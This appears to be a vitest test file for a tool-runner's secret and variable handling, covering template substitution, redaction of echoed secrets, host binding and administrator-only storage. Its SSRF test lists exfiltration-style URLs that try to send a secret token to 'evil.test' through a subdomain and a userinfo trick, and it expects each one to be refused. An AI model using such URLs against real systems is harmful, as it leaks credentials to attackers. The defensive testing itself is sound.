import { Code } from "@connectrpc/connect";
import { eventually } from "@toolgate/testbed/eventually";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { startToolRunnerRig, type ToolRunnerRig } from "../tool-runner-rig.ts";

const SECRET = "s3cret/value+1&x";
const READING = { external_api: true };

describe("secrets and variables of tools", () => {
  let runner: ToolRunnerRig;
  beforeAll(async () => {
    runner = await startToolRunnerRig();
    const hosts = [new URL(runner.receiver.url).host];
    await runner.dataSource.saveSecret({ name: "TOKEN", value: SECRET, hosts });
    await runner.dataSource.saveSecret({ name: "OTHER_PORT", value: "for-port-443", hosts: ["127.0.0.1"] });
    await runner.dataSource.saveSecret({ name: "ELSEWHERE", value: "for-another-host", hosts: ["api.example.test"] });
    await runner.dataSource.saveVariable({ variable: { name: "REGION", value: "eu-central" } });
    const { url } = runner.receiver;
    const parameters = { type: "object", properties: { text: { type: "string" }, url: { type: "string" } } };
    const headers = {
      authorization: "Bearer {{secret:TOKEN}}",
      "x-region": "{{variable:REGION}}",
      "x-text": "{{text}}",
    };
    const path = `${url}/api?key={{secret:TOKEN}}&text={{text}}`;
    const body = { token: "{{secret:TOKEN}}", text: "{{text}}" };
    await runner.saveTool("api", { ...READING, parameters, api: { method: "POST", url: path, headers, body } });
    await runner.saveTool("fetch", {
      ...READING,
      parameters,
      handler: `export default async (args, ctx) => {
        const response = await ctx.fetch("${url}/fetch?key={{secret:TOKEN}}", {
          method: "POST",
          headers: { authorization: "Bearer {{secret:TOKEN}}" },
          body: "{{secret:TOKEN}} " + args.text,
        });
        ctx.log("got", response);
        ctx.log(args.text);
        return { response };
      };`,
    });
    await runner.saveTool("anywhere", {
      ...READING,
      parameters,
      handler: `export default async ({ url }, ctx) => {
        try { return { response: await ctx.fetch(url) }; } catch (error) { return { success: false, code: error.code }; }
      };`,
    });
    await runner.saveTool("region", {
      ...READING,
      handler: 'export default async (_, ctx) => ({ region: await ctx.variable("REGION") });',
    });
    await runner.saveTool("missing", {
      ...READING,
      handler: `export default async (_, ctx) => {
        const codes = [];
        try { await ctx.variable("NONE") } catch (error) { codes.push(error.code) }
        try { await ctx.variable("TOKEN") } catch (error) { codes.push(error.code) }
        return { codes };
      };`,
    });
  });
  beforeEach(() =>
    runner.receiver.behave(({ path, headers, body }) => ({
      headers: { "content-type": "application/json" },
      body: JSON.stringify({
        path,
        authorization: headers.authorization,
        body: body.toString(),
        base64: Buffer.from(SECRET).toString("base64"),
      }),
    })),
  );
  afterAll(() => runner[Symbol.asyncDispose]());

  const lastRequest = () => runner.receiver.requests.at(-1);

  it("[TOOL] an api call gets secrets and variables in URL, headers and body; arguments are never templates", async () => {
    await runner.resultOf({ tool: "api", args: { text: "{{secret:TOKEN}}" } });
    const request = lastRequest();
    expect(request?.path).toBe(`/api?key=${encodeURIComponent(SECRET)}&text=%7B%7Bsecret%3ATOKEN%7D%7D`);
    expect(request?.headers).toMatchObject({
      authorization: `Bearer ${SECRET}`,
      "x-region": "eu-central",
      "x-text": "{{secret:TOKEN}}",
    });
    expect(JSON.parse(request?.body.toString() ?? "")).toEqual({ token: SECRET, text: "{{secret:TOKEN}}" });
  });

  it("[TOOL] fetch gets secrets in URL and headers, and its body stays as the handler wrote it", async () => {
    await runner.resultOf({ tool: "fetch", args: { text: "x" } });
    expect(lastRequest()?.path).toBe(`/fetch?key=${encodeURIComponent(SECRET)}`);
    expect(lastRequest()?.headers.authorization).toBe(`Bearer ${SECRET}`);
    expect(lastRequest()?.body.toString()).toBe("{{secret:TOKEN}} x");
  });

  it("[TOOL] [ERR-19] a secret that a server sends back reaches neither the sandbox nor the caller, the log or the event", async () => {
    for (const tool of ["api", "fetch"]) {
      const result = JSON.stringify(await runner.resultOf({ tool, args: { text: SECRET } }));
      for (const form of [SECRET, encodeURIComponent(SECRET), Buffer.from(SECRET).toString("base64")]) {
        expect(result).not.toContain(form);
      }
      expect(result).toContain("[entfernt]");
    }
    const rows = await eventually(async () => {
      const found = await runner.pool.query(
        "select args::text || result::text || logs::text || host_calls::text as kept from tool_runner.executions where tool in ('api', 'fetch')",
      );
      return found.rows.length >= 2 && found.rows;
    });
    for (const { kept } of rows) {
      expect(kept).not.toContain(SECRET);
      expect(kept).not.toContain(encodeURIComponent(SECRET));
    }
  });

  it("[SSRF] a secret is sent only to its hosts, ports and scheme, even if the caller's text names others", async () => {
    const { url } = runner.receiver;
    const before = runner.receiver.requests.length;
    for (const to of [
      `${url}/?x={{secret:ELSEWHERE}}`,
      `${url}/?x={{secret:OTHER_PORT}}`,
      `${url.replace("https:", "http:")}/?x={{secret:TOKEN}}`,
      "https://{{secret:TOKEN}}.evil.test/",
      "https://127.0.0.1@evil.test/{{secret:TOKEN}}",
    ]) {
      const refused = { success: false, code: "SECRET_HOST" };
      expect(await runner.resultOf({ tool: "anywhere", args: { url: to } })).toEqual(refused);
    }
    const missing = await runner.resultOf({ tool: "anywhere", args: { url: `${url}/{{secret:NONE}}` } });
    expect(missing).toEqual({ success: false, code: "NO_SUCH_SECRET" });
    const headers = { authorization: "{{secret:OTHER_PORT}}" };
    for (const api of [{ url: `${url}/?x={{secret:ELSEWHERE}}` }, { url: `${url}/`, headers }]) {
      await runner.saveTool("bound", { ...READING, api: { method: "GET", ...api } });
      expect((await runner.call({ tool: "bound" })).outcome.case).toBe("toolFailed");
    }
    expect(runner.receiver.requests.length).toBe(before);
  });

  it("[TOOL] handlers can read variables, but no secrets", async () => {
    expect(await runner.resultOf({ tool: "region" })).toEqual({ region: "eu-central" });
    const { variables } = await runner.dataSource.listVariables({});
    expect(variables).toMatchObject([{ name: "REGION", value: "eu-central" }]);
    expect(await runner.resultOf({ tool: "missing" })).toEqual({ codes: ["NO_SUCH_VARIABLE", "NO_SUCH_VARIABLE"] });
  });

  it("[TOOL] secrets are stored sealed, never returned, and set only by administrators", async () => {
    const { secrets } = await runner.dataSource.listSecrets({});
    expect(secrets.map(({ name, hosts }) => [name, hosts])).toEqual([
      ["ELSEWHERE", ["api.example.test"]],
      ["OTHER_PORT", ["127.0.0.1"]],
      ["TOKEN", [new URL(runner.receiver.url).host]],
    ]);
    expect(JSON.stringify(secrets, (_, value) => (typeof value === "bigint" ? String(value) : value))).not.toContain(
      SECRET,
    );
    const { rows } = await runner.pool.query("select sealed_value from tool_runner.secrets");
    for (const row of rows) expect(row.sealed_value.includes(Buffer.from(SECRET))).toBe(false);
    const request = { name: "NEW", value: "long enough", hosts: ["a.test"] };
    const refused = runner.as("manager").dataSource.saveSecret(request);
    await expect(refused).rejects.toMatchObject({ code: Code.PermissionDenied });
    await expect(runner.dataSource.saveSecret({ ...request, value: "short" })).rejects.toMatchObject({
      code: Code.InvalidArgument,
    });
  });
});
